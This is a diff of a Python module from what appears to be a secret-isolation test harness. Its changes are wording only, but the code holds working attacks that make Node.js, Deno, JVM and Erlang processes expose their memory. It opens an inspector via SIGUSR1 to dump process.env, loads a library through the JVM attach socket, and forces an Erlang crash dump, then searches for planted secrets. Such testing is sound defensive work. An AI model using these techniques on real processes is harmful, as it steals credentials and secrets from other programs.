@@ -1,6 +1,7 @@
-"""Have a runtime show its memory: inspector of Node.js and Deno, socket of the JVM, Erlang's dump.
+"""Make a runtime disclose its memory: an inspector, the JVM's attach socket, Erlang's crash dump.
 
-The kernel refuses nothing here: the program answers. runtimes.py says what closes each.
+The kernel refuses nothing here, because the program itself answers. runtimes.py says how to disable
+each.
 """
 
 from __future__ import annotations
@@ -39,12 +40,12 @@ _KEY = "AAAAAAAAAAAAAAAAAAAAAA=="  # any 16 bytes, RFC 6455
 
 
 def _programs_of(*names: str) -> tuple[str, ...]:
-    """The programs of runtimes, by the runtimes' names."""
+    """Return the programs of runtimes, by the runtimes' names."""
     return tuple(program for one in RUNTIMES if one.name in names for program in one.commands)
 
 
 def _signal_once_caught(pid: int, number: signal.Signals) -> bool:
-    """Send a signal as soon as it is caught; it would end the process before. False: it is not."""
+    """Send a signal once it is caught, so that it does not end the process. False: never caught."""
     deadline = time.monotonic() + _CATCH_SECONDS
     while time.monotonic() < deadline:
         with open(f"/proc/{pid}/status", "rb") as file:
@@ -57,7 +58,7 @@ def _signal_once_caught(pid: int, number: signal.Signals) -> bool:
 
 
 def _list_ports() -> set[int]:
-    """The TCP ports on which somebody listens; proc_net_tcp of the kernel's documentation."""
+    """Return the TCP ports in state LISTEN; proc_net_tcp in the kernel's documentation."""
     ports = set()
     for name in ("tcp", "tcp6"):
         with suppress(OSError), open(f"/proc/net/{name}", encoding="ascii") as file:
@@ -71,7 +72,7 @@ def _list_ports() -> set[int]:
 class Inspector:
     """A connection to an inspector: the protocol of Chrome's DevTools over a WebSocket (RFC 6455).
 
-    port -- of 127.0.0.1. Raises OSError and ValueError when no inspector answers there.
+    port -- on 127.0.0.1. Raises OSError and ValueError if no inspector answers there.
     """
 
     def __init__(self, port: int) -> None:
@@ -88,12 +89,12 @@ class Inspector:
             continue
 
     def close(self) -> None:
-        """Hang up."""
+        """Close the connection."""
         self._file.close()
         self._socket.close()
 
     def call(self, method: str, **parameters: object) -> Iterator[dict[str, object]]:
-        """Send a command; yields every message up to and with its answer."""
+        """Send a command; yields every message up to and including its answer."""
         text = json.dumps({"id": 1, "method": method, "params": parameters}).encode()
         # One unfragmented text frame of fewer than 65536 bytes, masked with zeros.
         self._socket.sendall(b"\x81\xfe" + len(text).to_bytes(2, "big") + bytes(4) + text)
@@ -104,7 +105,7 @@ class Inspector:
                 return
 
     def evaluate(self, expression: str) -> str:
-        """The value of an expression, as text; '' when it has none."""
+        """Return the value of an expression, as text; '' if it has none."""
         *_, answer = self.call("Runtime.evaluate", expression=expression)
         result = answer.get("result")
         value = result.get("result", {}).get("value") if isinstance(result, dict) else None
@@ -124,12 +125,12 @@ class Inspector:
     def _read(self, length: int) -> bytes:
         data = self._file.read(length)
         if len(data) < length:
-            raise ConnectionResetError("the inspector hung up")
+            raise ConnectionResetError("the inspector closed the connection")
         return data
 
 
 def _open_inspector(target: Target) -> Inspector | None:
-    """Have the target open its inspector, and connect to it; None when none opens."""
+    """Make the target open its inspector, and connect to it; None if none opens."""
     before = _list_ports()
     if not _signal_once_caught(target.pid, signal.SIGUSR1):
         return None
@@ -146,10 +147,10 @@ def _open_inspector(target: Target) -> Inspector | None:
 
 
 def ask_inspector(target: Target) -> Attempt:
-    """Have it open its inspector; read its environment, and the strings in its heap."""
+    """Make it open its inspector; read its environment, and the strings in its heap."""
     inspector = _open_inspector(target)
     if inspector is None:
-        return Attempt(False, "no inspector opened at SIGUSR1", refused=True)
+        return Attempt(False, "no inspector opened on SIGUSR1", refused=True)
     try:
         environment = inspector.evaluate("JSON.stringify(process.env)")
         places = target.places_in(environment.encode())
@@ -158,11 +159,11 @@ def ask_inspector(target: Target) -> Attempt:
             places, _ = search_chunks(target, (json.dumps(one).encode() for one in messages))
     finally:
         inspector.close()
-    return Attempt(bool(places), "its inspector opened at SIGUSR1 and ran code", places=places)
+    return Attempt(bool(places), "its inspector opened on SIGUSR1 and ran code", places=places)
 
 
 def _attach(pid: int) -> socket.socket | None:
-    """Have a JVM open its attach socket, and connect to it; None when none opens."""
+    """Make a JVM open its attach socket, and connect to it; None if none opens."""
     path = f"/tmp/.java_pid{pid}"
     request = f"/tmp/.attach_pid{pid}"
     with open(request, "wb"):
@@ -177,18 +178,18 @@ def _attach(pid: int) -> socket.socket | None:
         connection = socket.socket(socket.AF_UNIX)
         connection.settimeout(_SECONDS)
         connection.connect(path)
-        os.unlink(path)  # the JVM is ended before it could
+        os.unlink(path)  # the JVM ended before it could
     finally:
         os.unlink(request)
     return connection
 
 
 def load_library(target: Target) -> Attempt:
-    """Have a JVM open its attach socket and load a library that discloses its memory."""
+    """Make a JVM open its attach socket and load a library that discloses its memory."""
     library = build_library(target.folder, fifos_in_environment=False)
     connection = _attach(target.pid)
     if connection is None:
-        return Attempt(False, "no attach socket opened at SIGQUIT", refused=True)
+        return Attempt(False, "no attach socket opened on SIGQUIT", refused=True)
     with connection:
         words = ("1", "load", library, "true", "")
         connection.sendall("".join(f"{word}\0" for word in words).encode())
@@ -205,17 +206,17 @@ def _dump_path(folder: str) -> str:
 
 
 def _direct_dump(folder: str) -> dict[str, str]:
-    """Into the attack's folder, rather than over a dump that is already in the working folder."""
+    """Write to the attack's directory, instead of overwriting a dump in the working directory."""
     return {"ERL_CRASH_DUMP": _dump_path(folder)}
 
 
 def _in_base64(needle: bytes) -> list[bytes]:
-    """A text in base64, for each of the three positions at which it may begin; without its ends."""
+    """Return a text in base64 at each of the three possible offsets, without its ends."""
     return [base64.b64encode(bytes(at) + needle)[4:-4] for at in range(3)]
 
 
 def read_crash_dump(target: Target) -> Attempt:
-    """Have Erlang write a crash dump, and look for the secrets in it."""
+    """Make Erlang write a crash dump, and look for the secrets in it."""
     victim = target.victim
     assert victim is not None
     if not _signal_once_caught(target.pid, signal.SIGUSR1):
@@ -225,7 +226,7 @@ def read_crash_dump(target: Target) -> Attempt:
         with open(_dump_path(target.folder), "rb") as file:
             dump = file.read()
     except FileNotFoundError:
-        return Attempt(False, "no crash dump was written at SIGUSR1", refused=True)
+        return Attempt(False, "no crash dump was written on SIGUSR1", refused=True)
     places = tuple(
         place
         for place, needle in target.needles.items()
@@ -238,7 +239,7 @@ ATTACKS = (
     Attack(
         name="node-inspector",
         kind=TOOL,
-        summary="have its runtime open an inspector, run code there",
+        summary="make its runtime open an inspector, run code there",
         type="runtime",
         targets="Node.js and Deno",
         requires=SAME_USER,
@@ -254,7 +255,7 @@ ATTACKS = (
     Attack(
         name="jvm-attach",
         kind=TOOL,
-        summary="have the JVM open its attach socket, load a library",
+        summary="make the JVM open its attach socket, load a library",
         type="runtime",
         targets="the JVM",
         requires=f"{SAME_USER}; a C compiler",
@@ -269,9 +270,9 @@ ATTACKS = (
     Attack(
         name="erlang-crash-dump",
         kind=TOOL,
-        summary="have Erlang write a crash dump, read it",
+        summary="make Erlang write a crash dump, read it",
         type="runtime",
-        targets="Erlang; a secret in a process of Erlang's, named with --canary",
+        targets="Erlang; a secret in an Erlang process, given with --canary",
         requires=SAME_USER,
         refusal="no crash dump is written",
         effect=KILLS,
